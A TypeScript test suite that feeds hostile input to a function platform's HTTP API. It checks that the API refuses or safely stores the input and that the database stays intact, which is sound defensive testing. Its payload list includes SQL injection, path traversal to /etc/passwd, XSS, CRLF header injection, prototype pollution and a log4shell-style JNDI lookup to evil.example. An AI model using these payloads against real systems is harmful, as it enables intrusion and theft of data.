import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AnyFunction } from "../runtime/function.ts";
import { audited } from "./support/security-functions.ts";
import { auditHead, encodeSegment, expectProblem, tableChecksums } from "./support/security-helpers.ts";
import { jsonPost, startTestNode, type TestNode } from "./support/test-node.ts";

/**
 * Hostile input against the real app, as admin (the most privileged caller, so nothing is
 * refused for lack of rights and every input reaches the validation and the database).
 * Every refusal must be a 4xx problem+json that says what is wrong; strings that are valid
 * data must be stored and returned verbatim; and the database must be unchanged apart from
 * what the accepted requests legitimately wrote (see tableChecksums for the exact rules).
 */
const HOSTILE: readonly string[] = [
  "' OR 1=1 --",
  "' OR '1'='1",
  '"; DROP TABLE invocations; --',
  "1; DELETE FROM api_keys; --",
  "' UNION SELECT secret_hash, 1, 1 FROM api_keys --",
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "..%252f..%252f",
  "a\u0000b",
  "\u0000",
  "x".repeat(10_000),
  "ünïcödé 😀 漢字 \u202eevil",
  "\ud800", // a lone surrogate
  "a\udc00b",
  "<script>alert(1)</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style string, on purpose
  "${jndi:ldap://evil.example/x}",
  "\r\nX-Injected: 1",
  "*",
  "%",
  "_",
  "",
];
/** The documented name rules, to tell a hostile-looking but legal name from an illegal one. */
const STATE_SEGMENT = /^[A-Za-z0-9._:-]{1,200}$/;
const SERIES_NAME = /^[A-Za-z0-9._:/-]{1,128}$/;
const label = (s: string) => JSON.stringify(s.length > 40 ? `${s.slice(0, 40)}…(${s.length})` : s);

let node: TestNode;
const createdInvocations = new Set<string>();
const createdKeys = new Set<string>();
let before: Record<string, string>;
let headBefore: number;
let seed: { invocationId: string; keyId: string };

/** A request as admin that remembers every invocation and key the app reports creating. */
async function send(path: string, init: RequestInit = {}): Promise<Response> {
  const res = await node.request(path, init);
  const invocation = res.headers.get("x-invocation-id");
  if (invocation) createdInvocations.add(invocation);
  if (res.ok && res.headers.get("content-type")?.startsWith("application/json")) {
    const body = (await res.clone().json()) as { id?: unknown };
    if (typeof body?.id === "string") {
      if (path.startsWith("/v1/functions/")) createdInvocations.add(body.id);
      if (path === "/v1/keys" && init.method === "POST") createdKeys.add(body.id);
    }
  }
  return res;
}

const json = (body: unknown, method = "POST"): RequestInit => ({
  method,
  headers: { "content-type": "application/json" },
  body: typeof body === "string" ? body : JSON.stringify(body),
});
const bytes = (data: Uint8Array, method = "POST"): RequestInit => ({
  method,
  headers: { "content-type": "application/json" },
  body: data,
});

beforeAll(async () => {
  node = await startTestNode({ worker: false, extraFunctions: [audited as AnyFunction] });
  // Data worth stealing or destroying, so "unchanged" means something.
  const inv = await node.request("/v1/functions/echo/invoke", jsonPost({ message: "seed" }));
  const tel = await node.request(
    "/v1/functions/telemetry/invoke",
    jsonPost({ device: "pump-1", metric: "temp_c", value: 20 }),
  );
  expect(tel.status).toBe(200);
  await node.platform.state.put("seed", "a", { secret: "state-a" });
  await node.platform.state.put("seed", "b", { secret: "state-b" });
  const key = await node.platform.security.keys.create({
    name: "seed",
    role: "operator",
    createdBy: "security-test",
  });
  seed = { invocationId: ((await inv.json()) as { id: string }).id, keyId: key.id };
  headBefore = await auditHead(node);
  before = await tableChecksums(node);
});
afterAll(async () => {
  await node?.dispose();
});

describe("hostile path segments", () => {
  it.each(HOSTILE.filter((s) => s !== "").map((s) => [label(s), s]))(
    "function name %s → 404, nothing runs",
    async (_l, s) => {
      const seg = encodeSegment(s);
      await expectProblem(await send(`/v1/functions/${seg}`), [400, 404]);
      await expectProblem(await send(`/v1/functions/${seg}/invoke`, jsonPost({ message: "x" })), [400, 404]);
      await expectProblem(await send(`/v1/functions/${seg}/invoke?mode=async`, jsonPost({})), [400, 404]);
      await expectProblem(await send(`/fn/${seg}/series/pump-1`), [400, 404]);
    },
  );

  it.each(HOSTILE.filter((s) => s !== "").map((s) => [label(s), s]))(
    "invocation and key id %s → 404",
    async (_l, s) => {
      const seg = encodeSegment(s);
      await expectProblem(await send(`/v1/invocations/${seg}`), [400, 404]);
      await expectProblem(await send(`/v1/invocations/${seg}`, { method: "DELETE" }), [400, 404]);
      await expectProblem(await send(`/v1/invocations/${seg}/redrive`, { method: "POST" }), [400, 404]);
      await expectProblem(await send(`/v1/keys/${seg}`, { method: "DELETE" }), [400, 404]);
    },
  );

  it.each(HOSTILE.filter((s) => s !== "").map((s) => [label(s), s]))(
    "state namespace and key %s → 400 naming the field",
    async (_l, s) => {
      const seg = encodeSegment(s);
      if (STATE_SEGMENT.test(s)) {
        // A legal name ("_", "*" are not wildcards here): it simply holds nothing.
        await expectProblem(await send(`/v1/state/${seg}/a`), 404, "STATE_NOT_FOUND");
        await expectProblem(await send(`/v1/state/seed/${seg}`), 404, "STATE_NOT_FOUND");
        expect(((await (await send(`/v1/state/${seg}`)).json()) as { entries: unknown[] }).entries).toEqual(
          [],
        );
        return;
      }
      const cases: Array<[string, RequestInit, string]> = [
        [`/v1/state/${seg}/k`, {}, "namespace"],
        [`/v1/state/${seg}/k`, json({ v: 1 }, "PUT"), "namespace"],
        [`/v1/state/${seg}/k`, { method: "DELETE" }, "namespace"],
        [`/v1/state/seed/${seg}`, {}, "key"],
        [`/v1/state/seed/${seg}`, json({ v: 1 }, "PUT"), "key"],
        [`/v1/state/seed/${seg}`, { method: "DELETE" }, "key"],
        [`/v1/state/${seg}`, {}, "namespace"],
      ];
      for (const [path, init, field] of cases) {
        const problem = await expectProblem(await send(path, init), 400, "REQUEST_INVALID");
        expect(problem.errors?.map((e) => e.path)).toContain(field);
      }
    },
  );

  it("unencoded traversal never leaves the API", async () => {
    for (const path of [
      "/v1/functions/../../etc/passwd",
      "/v1/state/../../../etc/passwd",
      "/v1/invocations/..%2f..%2fetc%2fpasswd",
      "/v1/state/%2e%2e/%2e%2e",
      "/fn/telemetry/../../../etc/passwd",
      "/v1//functions",
    ]) {
      const res = await send(path);
      expect(res.status, path).toBeGreaterThanOrEqual(400);
      expect(res.status, path).toBeLessThan(500);
      expect(await res.text()).not.toMatch(/root:x:0:0/);
    }
  });
});

describe("hostile query parameters", () => {
  it.each(HOSTILE.map((s) => [label(s), s]))(
    "%s as a filter matches nothing (or is refused), never everything",
    async (_l, s) => {
      const q = encodeURIComponent(s.replace(/[\ud800-\udfff]/g, "\ufffd"));
      // Free-text filters: an exact match that finds nothing is the right answer.
      for (const path of [`/v1/invocations?function=${q}`, `/v1/audit?action=${q}`, `/v1/audit?actor=${q}`]) {
        if (s === "") continue; // an empty filter means "no filter"
        const res = await send(path);
        if (res.status === 200) {
          const body = (await res.json()) as { invocations?: unknown[]; entries?: unknown[] };
          expect(body.invocations ?? body.entries, path).toEqual([]);
        } else {
          await expectProblem(res, 400, "REQUEST_INVALID");
        }
      }
      if (s === "") return; // an empty cursor means "from the start"
      // Cursors: whatever is returned must lie on the right side of the cursor.
      const inv = await send(`/v1/invocations?before=${q}`);
      if (inv.status === 200) {
        for (const row of ((await inv.json()) as { invocations: Array<{ id: string }> }).invocations)
          expect(row.id < s).toBe(true);
      } else await expectProblem(inv, 400, "REQUEST_INVALID");
      const st = await send(`/v1/state/seed?after=${q}`);
      if (st.status === 200) {
        for (const e of ((await st.json()) as { entries: Array<{ key: string }> }).entries)
          expect(e.key > s).toBe(true);
      } else await expectProblem(st, 400, "REQUEST_INVALID");
    },
  );

  it.each(HOSTILE.map((s) => [label(s), s]))("%s as a typed parameter → 400/422 naming it", async (_l, s) => {
    const q = encodeURIComponent(s.replace(/[\ud800-\udfff]/g, "\ufffd"));
    const typed: Array<[string, string, number]> = [
      [`/v1/invocations?status=${q}`, "status", 400],
      [`/v1/invocations?limit=${q}`, "limit", 400],
      [`/v1/audit?since=${q}`, "since", 400],
      [`/v1/audit?until=${q}`, "until", 400],
      [`/v1/audit?after=${q}`, "after", 400],
      [`/v1/audit?order=${q}`, "order", 400],
      [`/v1/audit?limit=${q}`, "limit", 400],
      [`/v1/state/seed?limit=${q}`, "limit", 400],
      [`/fn/telemetry/series/pump-1?windowMs=${q}`, "windowMs", 422],
      [`/fn/telemetry/series/pump-1?until=${q}`, "until", 422],
      [`/fn/telemetry/series/pump-1?limit=${q}`, "limit", 422],
    ];
    for (const [path, field, status] of typed) {
      const res = await send(path);
      // An empty value means "not given" for the audit and state filters; that is allowed.
      if (s === "" && res.status === 200) continue;
      const problem = await expectProblem(res, status);
      expect(
        problem.errors?.map((e) => e.path),
        path,
      ).toContain(field);
    }
    if (s !== "") await expectProblem(await send(`/v1/functions/echo/invoke?mode=${q}`, jsonPost({})), 400);
  });

  it("repeated and array-style parameters do not confuse the filters", async () => {
    for (const path of [
      "/v1/invocations?status=succeeded&status=' OR 1=1 --",
      "/v1/invocations?function[]=echo",
      "/v1/invocations?function[$ne]=x",
      "/v1/audit?limit=1&limit=100000",
      "/v1/invocations?limit=1e3",
      "/v1/invocations?limit=-1",
      "/v1/invocations?limit=0x10",
      "/v1/audit?since=9999999999999999999999",
    ]) {
      const res = await send(path);
      expect(res.status, path).toBeLessThan(500);
      if (res.status >= 400) await expectProblem(res, [400, 422]);
    }
  });
});

describe("hostile JSON fields", () => {
  it.each(HOSTILE.map((s) => [label(s), s]))(
    "echo message %s is data: stored and returned verbatim",
    async (_l, s) => {
      const res = await send("/v1/functions/echo/invoke", jsonPost({ message: s }));
      expect(res.status).toBe(200);
      const body = (await res.json()) as { id: string; output: { message: string } };
      expect(body.output.message).toBe(s);
      const row = (await (await send(`/v1/invocations/${body.id}`)).json()) as {
        output: { message: string };
      };
      expect(row.output.message).toBe(s);
    },
  );

  it.each(HOSTILE.map((s) => [label(s), s]))(
    "%s in an audited input is kept verbatim in the audit log",
    async (_l, s) => {
      const res = await send("/v1/functions/audited/invoke", jsonPost({ text: s, [s]: [s] }));
      expect(res.status).toBe(200);
      const { id } = (await res.json()) as { id: string };
      await node.platform.security.audit.flush();
      const page = await send("/v1/audit?action=invocation&order=desc&limit=5");
      const { entries } = (await page.json()) as {
        entries: Array<{ details: { invocation: string; input?: unknown } }>;
      };
      const entry = entries.find((e) => e.details.invocation === id);
      expect(entry?.details.input).toEqual({ text: s, [s]: [s] });
    },
  );

  it.each(HOSTILE.map((s) => [label(s), s]))(
    "key name %s is stored verbatim or refused with a reason",
    async (_l, s) => {
      const res = await send("/v1/keys", jsonPost({ name: s, role: "developer" }));
      if (res.status === 201) {
        // Names are trimmed (documented); otherwise kept exactly, and listed as created.
        const created = (await res.json()) as { id: string; name: string };
        expect(created.name).toBe(s.trim());
        const list = (await (await send("/v1/keys")).json()) as { keys: Array<{ id: string; name: string }> };
        expect(list.keys.find((k) => k.id === created.id)?.name).toBe(s.trim());
      } else {
        const problem = await expectProblem(res, [400, 422]);
        expect(problem.errors?.map((e) => e.path)).toContain("name");
      }
    },
  );

  it.each(HOSTILE.map((s) => [label(s), s]))("%s in a typed field → 422 naming the field", async (_l, s) => {
    // Telemetry series names may legally hold "/", "." and ":" (sent as %2F in /fn URLs), so
    // "../../etc/passwd" is a valid, if odd, device name: those values are not sent there.
    const seriesName = SERIES_NAME.test(s);
    const cases: Array<[string, unknown, string, boolean?]> = [
      ["/v1/functions/echo/invoke", { message: "ok", delayMs: s }, "delayMs"],
      ["/v1/functions/telemetry/invoke", { device: s, metric: "temp_c", value: 1 }, "device", seriesName],
      ["/v1/functions/telemetry/invoke", { device: "pump-1", metric: "temp_c", value: s }, "value"],
      ["/v1/functions/telemetry/invoke", { query: { device: s } }, "query.device", seriesName],
      [
        "/v1/functions/telemetry/invoke",
        { readings: [{ device: "pump-1", metric: s, value: 1 }] },
        "readings.0.metric",
        seriesName,
      ],
      ["/v1/keys", { name: "n", role: s }, "role"],
      ["/v1/keys", { name: "n", role: "device", functions: [s] }, "functions.0"],
      ["/v1/keys", { name: "n", role: "device", expires: s }, "expires"],
      ["/v1/keys", { name: "n", role: "admin", [s || "empty"]: true }, "(root)"],
    ];
    for (const [path, body, field, valid] of cases) {
      if (valid) continue;
      const problem = await expectProblem(await send(path, jsonPost(body)), [400, 422]);
      const paths = (problem.errors ?? []).map((e) => e.path);
      expect(
        paths.some((p) => p === field || p.startsWith(`${field}.`)),
        `${path} ${JSON.stringify(paths)}`,
      ).toBe(true);
    }
  });

  it.each(HOSTILE.map((s) => [label(s), s]))(
    "a state value holding %s round-trips exactly",
    async (_l, s) => {
      const value = { v: s, nested: [s, { [s]: s }] };
      expect((await send("/v1/state/hostile/k", json(value, "PUT"))).status).toBe(200);
      const got = (await (await send("/v1/state/hostile/k")).json()) as { value: unknown };
      expect(got.value).toEqual(value);
      expect((await send("/v1/state/hostile/k", { method: "DELETE" })).status).toBe(204);
    },
  );

  it("hostile Idempotency-Keys are stored verbatim and replay the first result", async () => {
    // Header values are ByteStrings: no NUL, CR/LF or characters above U+00FF can be sent.
    for (const key of HOSTILE.filter((s) => s.length > 0 && s.length <= 200 && /^[\x20-\x7e]+$/.test(s))) {
      const first = await send(
        "/v1/functions/echo/invoke",
        jsonPost({ message: "1" }, { "Idempotency-Key": key }),
      );
      const second = await send(
        "/v1/functions/echo/invoke",
        jsonPost({ message: "2" }, { "Idempotency-Key": key }),
      );
      const a = (await first.json()) as { id: string };
      const b = (await second.json()) as { id: string; replayed?: boolean; output: { message: string } };
      expect(b).toMatchObject({ id: a.id, replayed: true, output: { message: "1" } });
      const row = await node.platform.invocations.get(a.id);
      expect(row?.idempotencyKey).toBe(key);
    }
    await expectProblem(
      await send("/v1/functions/echo/invoke", jsonPost({}, { "Idempotency-Key": "k".repeat(201) })),
      400,
    );
  });

  it("__proto__ and constructor keys do not pollute anything", async () => {
    const body =
      '{"message":"p","__proto__":{"polluted":true,"role":"admin"},"constructor":{"prototype":{"polluted":true}}}';
    const res = await send("/v1/functions/echo/invoke", jsonPost(body));
    expect(res.status).toBe(200);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(((await res.json()) as { output: Record<string, unknown> }).output).toEqual({
      message: "p",
      node: node.platform.node().id,
    });
    const key = await send("/v1/keys", jsonPost('{"name":"p","role":"device","__proto__":{"role":"admin"}}'));
    await expectProblem(key, 422, "INPUT_INVALID");
  });
});

describe("hostile bodies", () => {
  const ECHO = "/v1/functions/echo/invoke";

  it.each([
    ["100,000 nested arrays", "[".repeat(100_000) + "]".repeat(100_000)],
    ["100,000 nested objects", `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`],
    [
      "65 levels inside a valid field",
      JSON.stringify({ message: "x", extra: JSON.parse("[".repeat(65) + "]".repeat(65)) }),
    ],
  ])("deeply nested JSON (%s) → 400 JSON_TOO_DEEP", async (_name, body) => {
    await expectProblem(await send(ECHO, jsonPost(body)), 400, "JSON_TOO_DEEP");
    await expectProblem(await send("/v1/state/seed/deep", json(body, "PUT")), 400, "JSON_TOO_DEEP");
    await expectProblem(await send("/v1/keys", jsonPost(body)), 400, "JSON_TOO_DEEP");
  });

  it("a body over the limit → 413, with or without a truthful Content-Length", async () => {
    const big = JSON.stringify({ message: "x".repeat(2 * 1024 * 1024) });
    await expectProblem(await send(ECHO, jsonPost(big)), 413, "PAYLOAD_TOO_LARGE");
    const chunk = new TextEncoder().encode(" ".repeat(64 * 1024));
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent++ < 40) controller.enqueue(chunk);
        else controller.close();
      },
    });
    const streamed = await send(ECHO, {
      method: "POST",
      headers: { "content-type": "application/json", "content-length": "10" },
      body: stream,
      duplex: "half",
    } as RequestInit);
    await expectProblem(streamed, 413, "PAYLOAD_TOO_LARGE");
    await expectProblem(
      await send(ECHO, {
        ...jsonPost({}),
        headers: { "content-type": "application/json", "content-length": "99999999999" },
      }),
      413,
    );
  });

  it("a huge string under the body limit → 422 naming the field", async () => {
    const problem = await expectProblem(
      await send(ECHO, jsonPost({ message: "x".repeat(900_000) })),
      422,
      "INPUT_INVALID",
    );
    expect(problem.errors?.[0]?.path).toBe("message");
    const key = await expectProblem(
      await send("/v1/keys", jsonPost({ name: "n".repeat(500_000), role: "admin" })),
      422,
    );
    expect(key.errors?.[0]?.path).toBe("name");
  });

  it.each([
    ["a lone 0xff", [0x7b, 0x22, 0x6d, 0x22, 0x3a, 0x22, 0xff, 0x22, 0x7d]],
    ["an overlong '/'", [0x7b, 0x22, 0x6d, 0x22, 0x3a, 0x22, 0xc0, 0xaf, 0x22, 0x7d]],
    ["an encoded surrogate (CESU-8)", [0x7b, 0x22, 0x6d, 0x22, 0x3a, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x7d]],
    ["a truncated sequence", [0x7b, 0x22, 0x6d, 0x22, 0x3a, 0x22, 0xe2, 0x82, 0x22, 0x7d]],
    ["a code point above U+10FFFF", [0x7b, 0x22, 0x6d, 0x22, 0x3a, 0x22, 0xf4, 0x90, 0x80, 0x80, 0x22, 0x7d]],
    ["UTF-16 with a BOM", [0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]],
  ])("invalid UTF-8 (%s) → 400 INVALID_UTF8", async (_name, data) => {
    const body = new Uint8Array(data);
    await expectProblem(await send(ECHO, bytes(body)), 400, "INVALID_UTF8");
    await expectProblem(await send("/v1/state/seed/utf8", bytes(body, "PUT")), 400, "INVALID_UTF8");
    await expectProblem(await send("/v1/keys", bytes(body)), 400, "INVALID_UTF8");
  });

  it.each([
    "{",
    "{'message':'x'}",
    "NaN",
    "undefined",
    '{"message":"x",}',
    '{"message":"x"} trailing',
    "\u0000",
    "[1,2",
  ])("malformed JSON %j → 400 MALFORMED_JSON", async (body) => {
    await expectProblem(await send(ECHO, jsonPost(body)), 400, "MALFORMED_JSON");
    await expectProblem(await send("/v1/state/seed/bad", json(body, "PUT")), 400, "MALFORMED_JSON");
  });

  it.each([
    ["an array", []],
    ["a string", "just text"],
    ["a number", 42],
    ["a boolean", true],
    ["null", null],
    ["message as a number", { message: 42 }, "message"],
    ["message as an object", { message: { $gt: "" } }, "message"],
    ["message as an array", { message: ["' OR 1=1 --"] }, "message"],
    ["delayMs negative", { delayMs: -1 }, "delayMs"],
    ["delayMs fractional", { delayMs: 1.5 }, "delayMs"],
    ["delayMs beyond a double (1e309)", { delayMs: "__INF__" }, "delayMs"],
    ["delayMs over the maximum", { delayMs: 1e12 }, "delayMs"],
    ["delayMs as a string", { delayMs: "10" }, "delayMs"],
  ])("wrong type: echo with %s → 422 with a clear message", async (_name, input, field?: string) => {
    const body = JSON.stringify(input).replace('"__INF__"', "1e309");
    const problem = await expectProblem(await send(ECHO, jsonPost(body)), 422, "INPUT_INVALID");
    expect(problem.detail).toContain("echo");
    expect(problem.errors?.length).toBeGreaterThan(0);
    if (field) expect(problem.errors?.map((e) => e.path)).toContain(field);
    for (const e of problem.errors ?? []) expect(e.message.length).toBeGreaterThan(0);
  });

  it.each([
    ["name as a number", { name: 1, role: "admin" }, "name"],
    ["name as an array", { name: ["a"], role: "admin" }, "name"],
    ["role as an array", { name: "n", role: ["admin"] }, "role"],
    ["functions as a string", { name: "n", role: "device", functions: "echo" }, "functions"],
    ["expires as a number", { name: "n", role: "admin", expires: 30 }, "expires"],
    ["an extra property", { name: "n", role: "admin", isAdmin: true }, ""],
    ["an array body", [{ name: "n", role: "admin" }], ""],
  ])("wrong type: POST /v1/keys with %s → 422 with the field", async (_name, input, field) => {
    const problem = await expectProblem(await send("/v1/keys", jsonPost(input)), 422, "INPUT_INVALID");
    if (field) expect(problem.errors?.map((e) => e.path)).toContain(field);
    else expect(problem.errors?.length).toBeGreaterThan(0);
  });

  it("non-JSON content types → 415 saying what to send", async () => {
    for (const type of [
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
      "application/xml",
      "",
    ]) {
      const res = await send(ECHO, {
        method: "POST",
        headers: type ? { "content-type": type } : {},
        body: '{"message":"x"}',
      });
      const problem = await expectProblem(res, 415, "UNSUPPORTED_MEDIA_TYPE");
      expect(problem.detail).toContain("application/json");
    }
  });

  it("PUT state with no body → 400 saying a value is needed", async () => {
    const problem = await expectProblem(
      await send("/v1/state/seed/empty", { method: "PUT" }),
      400,
      "BODY_REQUIRED",
    );
    expect(problem.detail).toMatch(/JSON body/);
  });
});

describe("afterwards", () => {
  it("the database is unchanged apart from what accepted requests legitimately wrote", async () => {
    await node.platform.invocations.flush();
    await node.platform.security.keys.flush();
    expect(createdInvocations.size).toBeGreaterThan(HOSTILE.length); // the echo round trips, at least
    const after = await tableChecksums(node, {
      excludeIds: { invocations: createdInvocations, jobs: createdInvocations, api_keys: createdKeys },
      auditUpToSeq: headBefore,
    });
    expect(after).toEqual(before);
    // The seed data is all still there.
    expect(await node.platform.invocations.get(seed.invocationId)).toBeDefined();
    expect(await node.platform.state.get("seed", "a")).toEqual({ secret: "state-a" });
    expect(
      (await node.platform.security.keys.list()).some((k) => k.id === seed.keyId && k.revokedAt === null),
    ).toBe(true);
  });

  it("every stored row can be read back, and the audit chain verifies", async () => {
    const { client } = node.platform.database;
    const tables = await client.execute("SELECT name FROM sqlite_master WHERE type = 'table'");
    for (const { name } of tables.rows) await client.execute(`SELECT * FROM "${String(name)}"`);
    const all = await node.request("/v1/audit?limit=1000");
    expect(all.status).toBe(200);
    expect(await node.platform.security.audit.verify()).toMatchObject({ ok: true });
  });
});
